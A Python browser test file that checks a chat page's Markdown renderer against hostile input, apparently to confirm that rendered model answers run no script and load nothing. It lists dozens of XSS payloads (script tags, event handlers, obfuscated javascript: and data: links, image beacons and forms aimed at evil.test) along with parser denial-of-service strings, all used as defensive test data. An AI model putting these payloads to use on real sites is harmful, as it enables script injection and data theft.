"""Markdown of models in a real browser: what it looks like as elements, and that no text brings anything alive."""

from __future__ import annotations

import json
from typing import Any

import pytest
from browser import Page
from chat_page import ANSWER, MARKDOWN, answered

RENDER = """(async texts => {
    const { render } = await import('/page/markdown.js');
    return texts.map(text => { const place = render(text); document.body.append(place); return place.innerHTML; });
})"""
GROW = """(async text => {
    const { Markdown, render } = await import('/page/markdown.js');
    const place = document.createElement('div'), markdown = new Markdown(place), wrong = [];
    for (let end = 0; end <= text.length; end += 1) {
        markdown.show(text.slice(0, end), end === text.length);
        if (place.innerHTML !== render(text.slice(0, end)).innerHTML) wrong.push(end);
    }
    return wrong;
})"""
ELEMENTS = """[...document.querySelectorAll('body > div:not(.columns) *')].map(each =>
    [each.tagName.toLowerCase(), ...[...each.attributes].map(({ name, value }) => `${name}=${value}`)])"""
PLAIN = "p ul ol li blockquote table thead tbody tr th td strong em s span br hr h3 h4 h5 h6 div pre code button input a"
ATTRIBUTES = {"class", "href", "title", "target", "rel", "type", "disabled", "aria-label", "start", "style"}

# What pages of attacks on Markdown list, and what older versions of libraries like these fell to.
HOSTILE = [
    "<script>attack()</script>",
    "<img src=x onerror=attack()>",
    "<svg/onload=attack()>",
    "<svg><animate onbegin=attack() attributeName=x dur=1s>",
    "<iframe srcdoc='<script>parent.attack()</script>'></iframe>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror=attack()>'>",
    "<details open ontoggle=attack()>",
    "<style>@import 'http://evil.test/x.css'</style>",
    "<base href='http://evil.test/'><meta http-equiv=refresh content='0;url=http://evil.test/'>",
    "<form action='http://evil.test'><button>Send</button></form>",
    "<a href='javascript:attack()'>x</a>",
    "<!-- <img src=x onerror=attack()> --><![CDATA[<script>attack()</script>]]><?php attack() ?>",
    "a <b>bold</b> <i onclick=attack()>i</i> &lt;script&gt;attack()&lt;/script&gt; &#60;img src=x&#62;",
    "[x](javascript:attack())",
    "[x](JaVaScRiPt:attack())",
    "[x](java&#x0A;script:attack())",
    "[x](&#106;avascript:attack())",
    "[x](%6Aavascript:attack())",
    "[x](\\javascript:attack())",
    "[x](<java\tscript:attack()>)",
    "[x](\u0001javascript:attack())",
    "[x](vbscript:attack()) [x](file:///etc/passwd) [x](blob:http://evil.test/1)",
    "[x](data:text/html;base64,PHNjcmlwdD5hdHRhY2soKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml,<svg/onload=attack()>)",
    "[x](//evil.test) [x](/state) [x](?q) [x](#prompt) [x](../) [x](http:evil) [x](https://)",
    "[x][1]\n\n[1]: javascript:attack()",
    "[x][2]\n\n[2]: <javascript:attack()> 'attack()'",
    "<javascript:attack()> <data:text/html,x> <mailto:a@b.c> <http://evil.test/'onmouseover='attack()>",
    'http://evil.test/"onmouseover="attack() javascript:attack() www.evil.test evil.test',
    '[x](http://evil.test "onmouseover=attack() \'\\"><script>attack()</script>")',
    "[x](http://user:pass@good.test@evil.test/) [good.test](http://evil.test/)",
    "![x](http://evil.test/p.png?secret) ![](http://evil.test/q.png)",
    '![x](x"onerror="attack()) ![x](javascript:attack()) ![x](data:image/png;base64,AAAA)',
    "[![x](http://evil.test/p.png)](http://evil.test/)",
    "![x][3]\n\n[3]: http://evil.test/r.png",
    "```html\n<script>attack()</script>\n```",
    '```" onmouseover="attack()\n<img src=x onerror=attack()>\n```',
    "```__proto__\nx\n```\n```constructor\nx\n```\n```toString\nx\n```",
    "```javascript\n`${'<img src=x onerror=attack()>'}`\n```",
    "`<img src=x onerror=attack()>`",
    "# <img src=x onerror=attack()>\n\n> <script>attack()</script>\n\n- <svg onload=attack()>",
    "|<img src=x onerror=attack()>|b|\n|:-:|--|\n|<script>attack()</script>|`|`|",
    "- [x](javascript:attack())\n- [ ] <input autofocus onfocus=attack()>\n- [x] ok",
    "99999999999999999999. x\n\n0. x\n\n-1. x",
    "__proto__ [constructor] [__proto__]\n\n[__proto__]: http://evil.test/\n[constructor]: http://evil.test/",
    "\u202egnp.exe\u2066 \u0000 \ufffd \ud83d \ufeff \u2028<script>attack()</script>",
    "{{attack()}} ${attack()} <%= attack() %> [[attack()]] $\\href{javascript:attack()}{x}$",
]
LONG = 20_000
SLOW = {
    "brackets": "[" * LONG,
    "pictures": "![" * LONG,
    "links": "[a](" * LONG,
    "nested quotes": "> " * LONG + "a",
    "nested lists": "".join(f"{'  ' * depth}- a\n" for depth in range(500)),
    "stars": "*a " * LONG,
    "mixed marks": "*a_ **b__ " * (LONG // 4),
    "backticks": "".join("a" + "`" * n for n in range(600)),
    "angles": "<" * LONG,
    "comments": "<!--" * LONG,
    "entities": "&" * LONG,
    "references": "".join(f"[{n}]: x\n" for n in range(3000)) + "[a][b]" * 3000,
    "tables": "|" * 500 + "\n" + "|-" * 500 + "|\n" + "|a\n" * 2000,
    "addresses": "http://a" * 3000 + " " + "a@" * LONG,
    "one word": "x" * 500_000,
    "code": "```javascript\n" + "((((((((((/" * 4000 + "\n```",
    "open code": "```python\n" + "f'{" * 10_000,
    "deep code": "```xml\n" + "<a>{" * 10_000,
}


def called(page: Page, function: str, argument: Any) -> Any:
    return page.value(f"{function}({json.dumps(argument)})")


def test_an_answer_keeps_its_lists_tasks_links_and_colours(page: Page) -> None:
    answered(page, "Show it [markdown]")
    assert page.text(f"{ANSWER} h3") == "Plan"
    assert page.value(f"document.querySelector('{ANSWER} > ol').start") == 3
    assert page.value(f"document.querySelectorAll('{ANSWER} > ol > li').length") == 2
    assert page.text(f"{ANSWER} ol > li > ul > li") == "one cup"
    assert page.value(f"[...document.querySelectorAll('{ANSWER} .task input')].map(e => e.checked)") == [
        False,
        True,
    ]
    link = page.value(
        f"(({{ href, target, rel }}) => [href, target, rel])(document.querySelector('{ANSWER} a'))"
    )
    assert link == ["https://example.com/cups?n=2", "_blank", "noopener noreferrer nofollow"]
    assert page.text(f"{ANSWER} .code-keyword") == "def"
    assert page.value(f"document.querySelector('{ANSWER} td').style.textAlign") == "right"
    assert page.text(f"{ANSWER} pre") == MARKDOWN.split("```")[1].removeprefix("python\n").rstrip()


@pytest.mark.fault(
    "an answer has HTML, scripts, and links that run them",
    "they are text in the page; links lead to http, https and mail",
)
def test_hostile_texts_bring_nothing_alive(page: Page) -> None:
    page.until(
        "document.querySelector('#model').value"
    )  # so that the page asks for nothing more but the state
    page.value("window.attack = () => { window.attacked = true }")
    before = page.value("performance.getEntriesByType('resource').length")
    called(page, RENDER, HOSTILE)
    found = page.value(ELEMENTS)
    assert len(found) > len(HOSTILE)
    for tag, *attributes in found:
        assert tag in PLAIN.split(), (tag, attributes)
        for attribute in attributes:
            name, _, value = attribute.partition("=")
            assert name in ATTRIBUTES, (tag, attribute)
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:")), value
            if name == "style":
                assert value in ("text-align: center;", "text-align: left;", "text-align: right;"), value
    page.value(
        "document.querySelectorAll('body > div:not(.columns) *').forEach(each => {"
        " for (const kind of ['mouseover', 'focus', 'toggle', 'error', 'load']) each.dispatchEvent(new Event(kind)) })"
    )
    page.value("new Promise(done => setTimeout(done, 300))")
    assert page.value("window.attacked ?? false") is False
    later = page.value("performance.getEntriesByType('resource').map(each => each.name)")[before:]
    assert {each.split("/page/")[-1] for each in later} <= {f"{page.value('location.origin')}/state"}


def test_a_hostile_answer_in_pieces_is_a_text(page: Page) -> None:
    page.until(
        "document.querySelector('#model').value"
    )  # so that the page asks for nothing more but the state
    page.value("window.attack = () => { window.attacked = true }")
    answered(page, "[hostile]")
    assert page.text(ANSWER).startswith("<img src=x onerror=attack()>")
    assert page.value(f"[...document.querySelectorAll('{ANSWER} *')].map(e => e.tagName)") == ["P", "P", "A"]
    assert page.value("window.attacked ?? false") is False


@pytest.mark.fault("an answer is made to be slow to show", "it is shown within seconds")
@pytest.mark.parametrize("name", SLOW)
def test_a_text_made_to_be_slow_is_shown_within_seconds(name: str, page: Page) -> None:
    begun = page.value("performance.now()")
    called(page, RENDER, [SLOW[name]])
    assert page.value("performance.now()") - begun < 10_000  # some 0.1 s where it is not quadratic


@pytest.mark.parametrize(
    "text", [MARKDOWN, *HOSTILE[::6], "a\n\n- b\n\n      c\n- d\n\n~~~\ne\n~~~\n1. f\n\n   g\n***\n"]
)
def test_a_text_looks_the_same_however_it_came(text: str, page: Page) -> None:
    assert called(page, GROW, text) == []


def test_a_reference_at_the_end_gives_the_first_block_its_link(page: Page) -> None:
    text = "See [the page][1].\n\nMore.\n\n[1]: https://example.com/\n"
    assert len(text) not in called(page, GROW, text)
    assert 'href="https://example.com/"' in called(page, RENDER, [text])[0]


def test_blocks_that_are_whole_keep_their_elements(page: Page) -> None:
    assert page.value("""(async () => {
        const { Markdown } = await import('/page/markdown.js');
        const place = document.createElement('div'), markdown = new Markdown(place);
        markdown.show('one\\n\\ntwo', false);
        const first = place.firstChild;
        markdown.show('one\\n\\ntwo three\\n\\nfour', true);
        return place.children.length === 3 && place.firstChild === first;
    })()""")


def test_the_policy_refuses_html_of_texts(page: Page) -> None:
    assert (
        page.value("(() => { try { document.body.innerHTML = '<b>x</b>' } catch (e) { return e.name } })()")
        == "TypeError"
    )
    assert "TrustedHTML" in page.faults.pop()
